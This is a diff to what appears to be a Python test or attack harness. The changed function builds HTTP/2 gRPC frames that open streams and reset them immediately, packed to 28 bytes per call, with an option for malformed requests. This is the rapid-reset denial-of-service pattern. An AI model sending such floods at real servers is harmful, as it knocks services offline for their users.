@@ -23,14 +23,14 @@ def call_headers(method):
     return b"".join(header(*field) for field in fields)
 
 
-def resets(method, first, count):
-    """Frames of `count` calls, each reset as soon as it begins, in as few bytes as can be: 28 a call. The first of a connection puts its headers into HPACK's table."""
+def resets(method, count, malformed=False):
+    """The first frames of a connection: `count` calls, each reset as soon as it begins, in as few bytes as can be: 28 a call. `malformed`: without `te`."""
     named = b"\x83\x86" + b"".join(b"\x40" + header(name, value)[1:] for name, value in (
         (b":path", method.encode()), (b":authority", b"attack"), (b"te", b"trailers"), (b"content-type", b"application/grpc")))
-    by_index = b"\x83\x86\xc1\xc0\xbf\xbe"
+    by_index = b"\x83\x86\xc1\xc0\xbe" if malformed else b"\x83\x86\xc1\xc0\xbf\xbe"  # HPACK's table has them since the first call
     return b"".join(
         frame(HEADERS, END_HEADERS, stream, named if stream == 1 else by_index) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
-        for stream in range(first, first + 2 * count, 2))
+        for stream in range(1, 2 * count, 2))
 
 
 def padded_header(num_bytes):
